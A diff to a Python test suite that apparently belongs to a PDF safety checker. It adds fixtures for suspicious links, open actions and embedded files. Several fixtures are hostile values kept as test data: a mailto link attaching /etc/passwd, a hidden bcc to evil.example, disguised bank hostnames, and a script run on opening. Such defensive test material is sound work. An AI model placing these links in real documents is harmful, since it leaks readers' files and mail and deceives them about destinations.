@@ -11,7 +11,19 @@ from pikepdf import Array, Dictionary, Name, Pdf, String
 from PIL import Image
 from reportlab.pdfgen.canvas import Canvas
 
-from tests.covers import FONT, LETTER, bent, cover, drawn, in_catalog, on_page, unchanged, with_annotation, with_content
+from tests.covers import (
+    FONT,
+    LETTER,
+    bent,
+    cover,
+    drawn,
+    in_catalog,
+    on_page,
+    script,
+    unchanged,
+    with_annotation,
+    with_content,
+)
 from tests.covers_of_malice import BOX, INK, PAGES, form, image, link, made, stream, written
 
 GREY = bytes(range(0, 256, 4))
@@ -648,6 +660,136 @@ def loud_address() -> bytes:
     return link(S=Name.URI, URI=String(" HTTPS://clinique.example/"))
 
 
+@cover("figure")
+def letter_with_a_subject() -> bytes:
+    """A link that begins a message with its subject and first words."""
+    return link(S=Name.URI, URI=String("mailto:info@clinique.example?subject=Rendez-vous&body=Bonjour,%0D%0A"))
+
+
+@cover("figure", "W541")
+def letter_with_a_file() -> bytes:
+    """A link that begins a message with a file of the reader's machine in it."""
+    return link(S=Name.URI, URI=String("mailto:info@clinique.example?subject=Bonjour&%61ttach=/etc/passwd"))
+
+
+@cover("figure", "W541")
+def letter_with_an_attachment() -> bytes:
+    """A link that begins a message with an attachment, written as a web page would write it."""
+    return link(S=Name.URI, URI=String("mailto:info@clinique.example?body=a&amp;attachment=b.txt"))
+
+
+@cover("figure", "W541")
+def hidden_copy() -> bytes:
+    """A link that sends a copy of what a patient writes to somebody else, unseen."""
+    return link(S=Name.URI, URI=String("mailto:info@clinique.example?bcc=someone@evil.example"))
+
+
+@cover("figure", "W541")
+def disguised_host() -> bytes:
+    """A link that begins with the name of a bank and leads elsewhere."""
+    return link(S=Name.URI, URI=String("https://banque.example@evil.example/"))
+
+
+@cover("figure", "W541")
+def host_of_two_readings() -> bytes:
+    """A link whose host is one for some readers and another for others."""
+    return link(S=Name.URI, URI=String("https://clinique.example\\@evil.example/"))
+
+
+@cover("figure")
+def address_with_a_mailbox_in_it() -> bytes:
+    """A link to a page whose address holds a mailbox behind its host."""
+    return link(S=Name.URI, URI=String("https://clinique.example/ecrire?a=info@clinique.example"))
+
+
+# how a file opens
+
+
+@cover("figure")
+def opens_at_a_page() -> bytes:
+    """A file that opens at its first page, in full, as most design programs write it."""
+    return bent(lambda pdf: pdf.Root.update(Dictionary(OpenAction=Array([pdf.pages[0].obj, Name.Fit]))))
+
+
+@cover("figure")
+def goes_to_a_page() -> bytes:
+    """A file that goes to its first page on opening."""
+
+    def bend(pdf: Pdf) -> None:
+        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
+
+    return bent(bend)
+
+
+@cover("figure", "W541")
+def goes_to_a_page_and_on() -> bytes:
+    """A file that goes to its first page on opening, then runs a script."""
+    return in_catalog(OpenAction=Dictionary(S=Name.GoTo, D=String("cover"), Next=script()))
+
+
+# what a drawing carries with it
+
+
+def _file(pdf: Pdf) -> Any:
+    data = pdf.make_stream(b"id;name\n", Type=Name.EmbeddedFile)
+    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("list.csv"), EF=Dictionary(F=data)))
+
+
+@cover("figure", "W541")
+def picture_with_a_file() -> bytes:
+    """A picture with a file attached to it."""
+
+    def bend(pdf: Pdf) -> None:
+        pdf.pages[0].obj.Resources.XObject.Im.AF = Array([_file(pdf)])
+
+    return bent(bend, image(GREY))
+
+
+@cover("figure", "W541")
+def picture_in_a_form_with_a_file() -> bytes:
+    """A picture within a form, with a file attached to it."""
+
+    def bend(pdf: Pdf) -> None:
+        inner = made(GREY, Type=Name.XObject, Subtype=Name.Image, Width=8, Height=8, BitsPerComponent=8)(pdf)
+        inner.ColorSpace, inner.AF = Name.DeviceGray, Array([_file(pdf)])
+        pdf.pages[0].obj.Resources.XObject.Fm.Resources = Dictionary(XObject=Dictionary(Im=inner))
+
+    return bent(bend, form(b"90 0 0 90 0 0 cm /Im Do"))
+
+
+# what only some readers know
+
+
+@cover("figure")
+def unknown_operators_that_may_be_ignored() -> bytes:
+    """A drawing with operators of a newer version, marked as ones that a reader may leave out."""
+    return with_content(b"0 0 1 rg BX 1 2 /Glow frobnicate BX (a) shimmer EX 3 gleam EX 72 72 99 99 re f")
+
+
+@cover("picture", "W540")
+def unknown_operators_behind_what_may_be_ignored() -> bytes:
+    """A drawing with an operator that nobody knows, behind the part in which it might be left out."""
+    return with_content(b"BX 1 frobnicate EX EX 0 0 1 rg 72 72 99 99 re f 1 frobnicate")
+
+
+@cover("figure")
+def form_listed_in_itself() -> bytes:
+    """A form that lists itself among what it may draw, and does not draw it."""
+
+    def bend(pdf: Pdf) -> None:
+        drawing = pdf.pages[0].obj.Resources.XObject.Fm
+        drawing.Resources = Dictionary(XObject=Dictionary(Fm=drawing))
+
+    return bent(bend, form(b"0 0 1 rg 0 0 90 90 re f"))
+
+
+@cover("picture", "W540")
+def second_part_damaged() -> bytes:
+    """A drawing in two parts, of which the second cannot be unpacked: readers show the first."""
+    page = BOX.replace(b"4 0 R", b"[4 0 R 5 0 R]") + b">>"
+    return written(*PAGES, page, INK, stream(b"<~no hex~>", b"/Filter /ASCIIHexDecode"))
+
+
 # typefaces that are chosen and show nothing
 
 
@@ -784,8 +926,8 @@ def plain_inline_image() -> bytes:
     return with_content(b"q 99 0 0 99 72 72 cm " + data + b" Q")
 
 
-@cover("E541")
+@cover("figure")
 def short_filter_names() -> bytes:
-    """A drawing that is packed by a short name, which is for images in drawings alone."""
+    """A drawing that is packed by a short name, which is for images in drawings alone; every reader knows it."""
     packed = zlib.compress(b"0 0 1 rg 72 72 200 200 re f")
     return written(*PAGES, BOX + b">>", stream(packed, b"/Filter /Fl"))
